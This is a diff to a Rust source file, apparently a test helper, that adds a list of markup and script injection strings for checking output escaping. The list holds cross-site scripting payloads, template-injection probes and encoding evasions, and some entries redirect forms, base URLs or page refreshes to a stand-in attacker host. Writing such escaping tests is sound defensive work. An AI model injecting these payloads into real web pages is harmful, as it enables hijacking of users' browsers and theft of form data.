@@ -159,3 +159,29 @@ pub fn resembling(secret: &str) -> Vec<String> {
     texts.retain(|text| text != secret);
     texts
 }
+
+/// What becomes markup or script where a value is not escaped for its place.
+pub const MARKUP: &[&str] = &[
+    "Z<script>alert(1)</script>",
+    "Z\"><script>alert(1)</script>",
+    "Z'><img src=x onerror=alert(1)>",
+    "Z\" onmouseover=\"alert(1)",
+    "Z' onfocus='alert(1)' autofocus='",
+    "Z</title><svg onload=alert(1)>",
+    "Z</code></form><form action=//evil.example>",
+    "Z<a href=javascript:alert(1)>x</a>",
+    "Z&lt;script&gt;alert(1)&lt;/script&gt;",
+    "Z&#x3c;script&#x3e;alert(1)",
+    "Z<!--",
+    "Z-->",
+    "Z]]><x>",
+    "Z{{ 7*7 }}{% raw %}",
+    "Z${7*7}#{7*7}",
+    "Z<base href=//evil.example>",
+    "Z<meta http-equiv=refresh content=0;//evil.example>",
+    "Z<iframe srcdoc=x>",
+    "Z\u{ff1c}script\u{ff1e}",
+    "Z<scr\u{131}pt>alert(1)</script>",
+    "Z`onload=alert(1)`",
+    "Zjavascript:alert(1)//",
+];
